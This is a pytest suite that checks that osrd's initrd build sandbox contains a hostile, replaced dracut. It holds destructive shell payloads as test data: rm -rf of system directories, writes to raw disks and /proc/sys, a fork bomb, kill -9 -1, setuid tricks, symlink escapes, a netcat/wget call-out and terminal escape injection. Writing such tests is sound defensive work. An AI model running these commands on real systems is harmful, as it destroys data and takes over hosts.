# SPDX-License-Identifier: GPL-3.0-or-later
"""Roots whose dracut was replaced by somebody who wants this host. It stays as it is, and the job says what failed."""

import os
import shutil
import socket
import stat
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

import pytest

from osrd.apply.initrd.build import BuildFailedError, build
from osrd.model.errors import NotFoundError
from osrd.model.image import BuildLimits
from osrd.observe.mounts import read_table
from tests.initrd.miniroot import GOOD, LIMITS, VERSION, World, children, make_order, running, set_dracut

pytestmark = [pytest.mark.root, pytest.mark.needs("busybox")]

#: no other process of this host has it in its command line
_TOKEN = "1000.0625"


class Host(World):
    """Beside the root and the destination, a directory and a process of this host."""

    def __init__(self, path: Path) -> None:
        super().__init__(path)
        self.victim = path / "victim"
        (self.victim / "deep").mkdir(parents=True)
        (self.victim / "file").write_text("precious")
        (self.victim / "deep/file").write_text("precious")
        self.bystander = subprocess.Popen(["sleep", "1000"], start_new_session=True)

    def seen(self) -> object:
        """Everything that must not change."""
        files = [self.victim, self.root, *sorted(self.victim.rglob("*")), *sorted(self.root.rglob("*"))]
        mounts = [line for line in read_table().splitlines() if os.fsencode(self.victim.parent) in line]
        return [(str(path), _seen(path)) for path in files], mounts, sorted(os.listdir(self.victim.parent))

    def refuses(self, script: str, limits: BuildLimits = LIMITS) -> BuildFailedError:
        """The error of a build whose dracut is ``script``."""
        set_dracut(self.root, script)
        with untouched(self), pytest.raises(BuildFailedError) as caught:
            build(make_order(self.root), limits, str(self.destination))
        assert self.names() == ["log"]
        return caught.value


def _seen(path: Path) -> tuple[object, ...]:
    status = path.lstat()
    content = path.read_bytes() if stat.S_ISREG(status.st_mode) else b""
    return status.st_ino, status.st_mode, status.st_uid, status.st_mtime_ns, status.st_ctime_ns, content


@pytest.fixture
def host(tmp_path: Path) -> Iterator[Host]:
    host = Host(tmp_path)
    try:
        yield host
        assert host.bystander.poll() is None
    finally:
        host.bystander.kill()
        host.bystander.wait()
    assert running(_TOKEN) == []
    assert children() == []


@contextmanager
def untouched(host: Host) -> Iterator[None]:
    before = host.seen()
    yield
    assert host.seen() == before


def attacked(host: Host, script: str) -> str:
    """The log of a build whose dracut does ``script``, and then its work."""
    set_dracut(host.root, f"{script}\n{GOOD}")
    with untouched(host):
        built = build(make_order(host.root), LIMITS, str(host.destination))
    assert Path(built.initrd).read_text() == "initrd\n"
    return host.log()


_EVERYWHERE = """
for place in VICTIM /proc/1/root/VICTIM /proc/self/root/VICTIM /proc/1/cwd/../../../VICTIM ../../../../VICTIM; do
    mkdir -p $place; echo owned > $place/file; rm -rf $place/deep; touch $place/new; chmod 777 $place; chown 12 $place
done
for file in /proc/[0-9]*/fd/[3-9]*; do echo owned > $file; done
for file in /proc/sys/*/* /proc/sys/*/*/* /proc/irq/*/* /proc/fs/*/*; do [ ! -f $file ] || echo 1 > $file; done
for disk in vda sda nvme0n1 mem kmem port; do echo owned > /dev/$disk; done
rm -rf /boot /usr/lib/dracut /etc /var
"""


def test_writing_everywhere(host: Host) -> None:
    settings = [Path(f"/proc/sys/{name}") for name in ("kernel/core_pattern", "vm/swappiness", "net/core/somaxconn")]
    before = [path.read_text() for path in settings]
    attacked(host, _EVERYWHERE.replace("VICTIM", str(host.victim)))
    assert [path.read_text() for path in settings] == before


def test_calling_the_network(host: Host) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.1)
        url = f"127.0.0.1:{server.getsockname()[1]}"
        log = attacked(
            host, f"ip link set lo up; nc -w 1 {url.replace(':', ' ')} < /bin/sh; wget -T 1 -O - http://{url}/"
        )
        with pytest.raises(TimeoutError):
            server.accept()
    assert "unreachable" in log


def test_calling_a_program_of_this_host(host: Host) -> None:
    """A socket that lies in the root leads to nobody, though somebody listens: in the overlay it is another one."""
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(host.root / "etc/log"))
        listener.listen()
        listener.settimeout(0.1)
        attacked(host, "ln -s /etc/log /dev/log; logger -t evil hello")
        with pytest.raises(TimeoutError):
            listener.accept()


@pytest.mark.parametrize(
    "script",
    [
        "for n in $(seq 1 2000) {}; do [ $n = $$ ] || kill -9 $n; done 2> /dev/null",
        "kill -INT 1; kill -TERM 1; kill -STOP 1; kill -9 1",
    ],
    ids=["each", "first"],
)
def test_killing(host: Host, script: str) -> None:
    """Nobody outside is there to be killed, and process 1 of the room cannot be."""
    attacked(host, script.replace("{}", str(host.bystander.pid)))


def test_killing_all(host: Host) -> None:
    error = host.refuses("sh -c 'kill -9 -1'")
    assert "killed by signal 9" in error.message
    assert "memory ran out" in error.fix


def test_a_fork_bomb(host: Host) -> None:
    error = host.refuses(f"while :; do ( trap '' TERM; sleep {_TOKEN} ) & done")
    assert "started more than 512 processes" in error.message


@pytest.mark.parametrize("up", [False, True])
@pytest.mark.parametrize(
    "place",
    [
        *("boot", "dev", "etc", "etc/osr", "etc/osr/initrd", "proc", "run", "tmp", "var/tmp"),
        *("usr/lib/dracut", "usr/lib/dracut/modules.d", "usr/lib/dracut/modules.d/95osr"),
    ],
)
def test_directories_that_lead_to_the_host(host: Host, place: str, up: bool) -> None:
    path = host.root / place
    if path.is_dir():
        shutil.rmtree(path)
    path.parent.mkdir(exist_ok=True)
    path.symlink_to("../" * 20 + str(host.victim)[1:] if up else host.victim)
    image = f"usr/lib/modules/{VERSION}/vmlinuz"
    (host.root / image).parent.mkdir(parents=True)
    (host.root / image).write_bytes(b"a kernel")
    set_dracut(host.root, f"echo owned > {host.victim}/file; rm -rf {host.victim}/deep; echo x > /var/tmp/x\n" + GOOD)
    with untouched(host):
        built = build(make_order(host.root, image), LIMITS, str(host.destination))
    assert Path(built.initrd).read_text() == "initrd\n"


def test_a_kernel_directory_that_leads_to_the_host(host: Host) -> None:
    order = make_order(host.root)
    shutil.copy(host.root / order.kernel.image, host.victim)
    shutil.rmtree(host.root / "boot")
    (host.root / "boot").symlink_to(host.victim)
    with untouched(host), pytest.raises(NotFoundError):
        build(order, LIMITS, str(host.destination))


def test_our_directories_hold_a_trap(host: Host) -> None:
    """What stands where osrd's files go is removed in the overlay alone, and no link in it is followed."""
    for place in ("etc/osr/initrd", "usr/lib/dracut/modules.d/95osr", "usr/lib/dracut/modules.d/12osr"):
        (host.root / place / "deep").mkdir(parents=True)
        (host.root / place / "deep/link").symlink_to(host.victim)
        os.mkfifo(host.root / place / "deep/fifo")
        (host.root / place / "nodes").symlink_to(host.victim / "file")
    (host.root / "etc/osr/initrd/build").symlink_to(host.victim / "file")
    (host.root / "usr/lib/dracut/modules.d/95osr/module-setup.sh").symlink_to(host.victim / "file")
    log = attacked(host, "find /etc/osr /usr/lib/dracut -type f; cat /etc/osr/initrd/build")
    assert set(log.split()) >= {"/etc/osr/initrd/build", "/usr/lib/dracut/modules.d/95osr/module-setup.sh", "0123abcd"}
    assert "12osr" not in log


def test_directories_without_end(host: Host) -> None:
    """Removing them takes more descriptors than there are: the build fails, osrd does not."""
    here = os.open(host.root / "usr/lib/dracut/modules.d", os.O_RDONLY)
    for name in ["95osr", *("x" for _ in range(1500))]:
        os.mkdir(name, dir_fd=here)
        below = os.open(name, os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
    os.close(here)
    with pytest.raises(BuildFailedError, match=r"Too many open files|too deep"):
        build(make_order(host.root), LIMITS, str(host.destination))
    subprocess.run(["rm", "-rf", host.root / "usr/lib/dracut/modules.d/95osr"], check=True)


def test_devices_in_the_root(host: Host) -> None:
    os.mknod(host.root / "etc/zero", 0o666 | stat.S_IFCHR, os.makedev(1, 5))
    os.mknod(host.root / "etc/disk", 0o666 | stat.S_IFBLK, os.stat(host.root).st_dev)
    script = "for name in zero disk; do cp -a /etc/$name /tmp/$name; for place in etc tmp; do\n"
    script += "head -c 1 /$place/$name > /tmp/got && echo OPENED; done; done; mknod /tmp/x c 1 5 && echo OPENED\n"
    log = attacked(host, script)
    assert "OPENED" not in log
    assert log.count("Permission denied") >= 2


def test_set_user_id(host: Host) -> None:
    """Neither the root's programs nor those that it makes get another user."""
    planted = host.root / "usr/lib/busybox"
    shutil.copy(host.root / "usr/bin/busybox", planted)
    os.chown(planted, 12, 12)
    planted.chmod(0o6755)
    made = "/tmp/busybox"
    script = f"cp /usr/bin/busybox {made}; chown 12:12 {made}; chmod 6755 {made}; ls -l {made} /usr/lib/busybox\n"
    log = attacked(host, script + f"for each in /usr/lib/busybox {made}; do $each id -u; $each id -g; done\n")
    assert log.count("-rwsr-sr-x") == 2
    assert [line for line in log.splitlines() if line.isdigit()] == ["0"] * 4


@pytest.mark.parametrize(
    "script",
    [
        'dd if=/dev/zero of="$image" bs=1M count=10240',
        'truncate -s 10G "$image"',
        'dd if=/dev/zero of="$image" bs=1M count=1 seek=10239',
    ],
)
def test_an_image_of_10_gib(host: Host, script: str) -> None:
    error = host.refuses(f"{script} || exit 5")
    assert "exit status 5" in error.message


def test_an_image_that_is_too_large(host: Host) -> None:
    """Should the limit of the process not hold it."""
    error = host.refuses('truncate -s 16M "$image"; echo 1 >> "$image" || exit 0', replace(LIMITS, size=16))
    assert "File too large" in error.message or "more than 16 MiB" in error.message


def test_output_without_end(host: Host) -> None:
    error = host.refuses("echo first\nyes 'dracut: *** Including module: \033[2J ***'")
    assert "printed more than 64 MiB" in error.message
    assert "\033" not in error.message
    log = host.destination / "log"
    assert log.stat().st_size < 4 << 20
    assert log.read_bytes().startswith(b"first\n")
    assert b"bytes are left out here]" in log.read_bytes()


def test_a_line_without_end(host: Host) -> None:
    error = host.refuses("head -c 3000000 /dev/zero | tr '\\0' x; exit 4")
    assert len(error.message) < 50_000


@pytest.mark.parametrize(
    ("script", "says"),
    [
        ('mkfifo "$image"', "no regular file"),
        ('mkdir "$image"', "no regular file"),
        ('ln -s VICTIM/file "$image"', "symlink"),
        ('ln -s /usr/bin/busybox "$image"', "symlink"),
        ("rm -rf /run/osrd; ln -s VICTIM /run/osrd", "symlink"),
        ("rm -rf /run/osrd; ln -s /usr/bin /run/osrd", "symlink"),
        ("true", "No such file"),
        ("rm -rf /run/osrd", "No such file"),
        (': > "$image"', "empty"),
    ],
)
def test_an_image_that_is_none(host: Host, script: str, says: str) -> None:
    error = host.refuses(script.replace("VICTIM", str(host.victim)))
    assert says in error.message


def test_daemons_that_stay(host: Host) -> None:
    """They keep dracut's output open and ignore what they can: a build that is done does not wait for them."""
    daemon = f"( trap '' TERM HUP INT; setsid sh -c 'trap \"\" TERM; (sleep {_TOKEN} &) ; sleep {_TOKEN}' & ) &\n"
    attacked(host, daemon * 3)


def test_a_daemon_that_changes_the_image(host: Host) -> None:
    """It is gone before the image is looked at."""
    script = (
        'echo initrd > "$image"; (while :; do ln -sf /etc "$image.new"; mv "$image.new" "$image"; rm -f "$image"\n'
    )
    script += 'echo initrd > "$image"; done) &\nsleep 0.3\n'
    for _round in range(3):
        set_dracut(host.root, script)
        try:
            built = build(make_order(host.root), LIMITS, str(host.destination))
        except BuildFailedError as error:
            assert any(each in error.message for each in ("symlink", "No such file", "empty"))  # noqa: PT017
        else:
            assert Path(built.initrd).read_text() == "initrd\n"


def test_names_that_are_lies(host: Host) -> None:
    """The messages of a hostile dracut do not write on the terminal of whoever reads them."""
    error = host.refuses("printf 'a\\033]0;owned\\007b\\rc\\302\\233x\\342\\200\\256y\\n'; exit 1")
    assert all(character.isprintable() for character in str(error))
